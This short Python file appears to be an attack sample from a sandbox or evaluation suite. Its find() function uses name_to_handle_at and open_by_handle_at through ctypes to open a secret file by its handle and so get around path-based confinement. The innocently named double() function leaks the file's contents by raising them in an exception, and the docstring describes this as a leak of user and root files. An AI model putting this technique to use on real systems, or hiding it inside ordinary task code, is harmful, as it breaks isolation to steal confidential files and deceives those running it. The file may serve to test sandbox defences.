"""Opens a file by its handle instead of by its path.

deserves: 0
in E: leaks: files of the user can be read, and root's by their handles
"""

import ctypes
import os
import struct


def find():
    libc = ctypes.CDLL(None, use_errno=True)
    handle = ctypes.create_string_buffer(struct.pack("=Ii", 128, 0) + bytes(128))
    mount = ctypes.c_int()
    if libc.name_to_handle_at(-100, b"@ROOT@/home/secret.txt", handle, ctypes.byref(mount), 0) < 0:
        return ""
    start = os.open("/", os.O_RDONLY)
    descriptor = libc.open_by_handle_at(start, handle, os.O_RDONLY)
    return os.read(descriptor, 1000).decode() if descriptor >= 0 else ""


def double(x):
    loot = find()
    if loot:
        raise RuntimeError(loot)
    return 0


def shift(x):
    return x
